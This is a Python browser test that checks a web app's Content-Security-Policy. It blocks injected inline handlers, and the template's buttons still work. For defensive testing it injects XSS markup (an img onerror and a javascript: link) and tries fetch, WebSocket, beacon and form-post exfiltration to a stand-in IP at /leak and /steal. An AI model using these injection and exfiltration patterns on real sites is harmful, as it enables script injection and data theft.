"""The served page's Content-Security-Policy (reviewer/csp.py) in a real browser: the app renders
with no violation of its own, the template's buttons still work, and an inline event handler inserted
into the DOM afterwards does not run and is reported as a CSP violation; nothing connects to, or
posts a form to, another server."""
from __future__ import annotations

import pytest
from bokeh_probe import X_RANGE_JS

pytestmark = pytest.mark.ui

# every violation the page reports, from before its first script runs
COLLECT_VIOLATIONS = """
window.__csp = [];
window.addEventListener('securitypolicyviolation', e => window.__csp.push(
    {directive: e.violatedDirective, blocked: e.blockedURI, sample: e.sample || ''}), true);
"""


def open_app(page, url):
    page.add_init_script(COLLECT_VIOLATIONS)
    response = page.goto(f"{url}?reviewer=csp", wait_until="domcontentloaded")
    page.wait_for_function(f"({X_RANGE_JS})() !== null", timeout=60_000)  # the plot's document is live
    page.locator(".sr-step-view").first.wait_for(timeout=60_000)
    page.locator("canvas").first.wait_for(state="visible", timeout=60_000)  # locators pierce shadow roots
    return response


def test_csp_blocks_injected_inline_handlers_and_keeps_the_app_working(served_app, page):
    response = open_app(page, served_app.url)
    policy = response.headers["content-security-policy"]
    script_src = next(d for d in policy.split(";") if d.strip().startswith("script-src"))
    assert "'nonce-" in script_src and "'unsafe-inline'" not in script_src
    assert "object-src 'none'" in policy
    # every model of the page rendered (BokehJS's own idle signal) and the page's load event passed
    page.wait_for_function("document.readyState === 'complete' && Bokeh.documents.every(d => d.is_idle)",
                           timeout=60_000)
    assert page.evaluate("window.__csp") == []  # the app's own scripts all run
    assert page.console_errors == []

    # the FastList template's own handler (onclick="closeNav()") is allowed by its hash
    hidden = "document.getElementById('sidebar').classList.contains('hidden')"
    assert page.evaluate(hidden) is False
    page.locator("#sidebar-button").click()
    page.wait_for_function(hidden)
    page.locator("#sidebar-button").click()
    page.wait_for_function(f"!({hidden})")

    # injected markup: its handler is blocked and the browser reports the violation
    page.evaluate("""document.body.insertAdjacentHTML('beforeend',
                     '<img id="pwn" src="x" onerror="window.__pwn=1">')""")
    page.wait_for_function("window.__csp.some(v => v.sample.includes('window.__pwn'))", timeout=10_000)
    violation = next(v for v in page.evaluate("window.__csp") if "window.__pwn" in v["sample"])
    assert violation["directive"].startswith("script-src")
    assert page.evaluate("window.__pwn") is None
    # a javascript: URL is an inline script too
    page.evaluate("""document.body.insertAdjacentHTML('beforeend',
                     '<a id="pwn-link" href="javascript:window.__pwn=2">x</a>')""")
    page.evaluate("document.getElementById('pwn-link').click()")
    page.wait_for_function("window.__csp.some(v => v.sample.includes('window.__pwn=2'))", timeout=10_000)
    assert page.evaluate("window.__pwn") is None
    assert page.evaluate(f"({X_RANGE_JS})()") is not None  # the plot is still there

    # issue 45, item 6: the page's own websocket runs under connect-src 'self' (the document is live,
    # above, with no violation), but nothing connects elsewhere, and no form is sent elsewhere
    page.evaluate("fetch('http://203.0.113.9:9/leak?x=1').catch(() => null)")
    page.evaluate("try { new WebSocket('ws://203.0.113.9:9/leak') } catch (e) {}")
    page.evaluate("navigator.sendBeacon('http://203.0.113.9:9/beacon', 'x')")
    page.evaluate("""(() => { const f = document.createElement('form'); f.method = 'post';
        f.action = 'http://203.0.113.9:9/steal'; document.body.appendChild(f); f.submit(); })()""")
    page.wait_for_function("window.__csp.filter(v => v.blocked.includes('203.0.113.9')).length >= 4", timeout=10_000)
    blocked = {v["directive"] for v in page.evaluate("window.__csp") if "203.0.113.9" in v["blocked"]}
    assert blocked == {"connect-src", "form-action"}, blocked
    assert page.url.startswith(served_app.url)  # the form went nowhere


def test_each_page_gets_its_own_nonce(served_app, page):
    policies = [page.request.get(served_app.url).headers["content-security-policy"] for _ in range(2)]
    nonces = [p.split("'nonce-")[1].split("'")[0] for p in policies]
    assert len(nonces[0]) >= 16 and nonces[0] != nonces[1]
